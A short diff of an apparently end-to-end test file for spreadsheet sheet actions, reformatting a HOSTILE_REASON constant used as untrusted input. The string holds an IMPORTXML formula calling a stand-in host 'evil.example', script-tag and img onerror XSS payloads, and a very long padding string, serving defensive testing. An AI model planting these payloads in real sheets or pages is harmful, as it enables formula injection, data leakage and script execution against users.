@@ -5,7 +5,9 @@ import { SHEET_NAME } from '../../proto/contract.js';
 import { Chain, WEB_URL } from './chain.js';
 import { describeVerdict, isSameText } from './checker.js';
 
-export const HOSTILE_REASON = `=IMPORTXML("http://evil.example/x","//a") <script>alert(1)</script> <img src=x onerror=alert(2)> 🔑 שלום עולם ${'x'.repeat(60_000)}`;
+export const HOSTILE_REASON =
+  '=IMPORTXML("http://evil.example/x","//a") <script>alert(1)</script> <img src=x onerror=alert(2)> ' +
+  `🔑 שלום עולם ${'x'.repeat(60_000)}`;
 
 describe('end to end: sheet actions', () => {
   let chain: Chain;
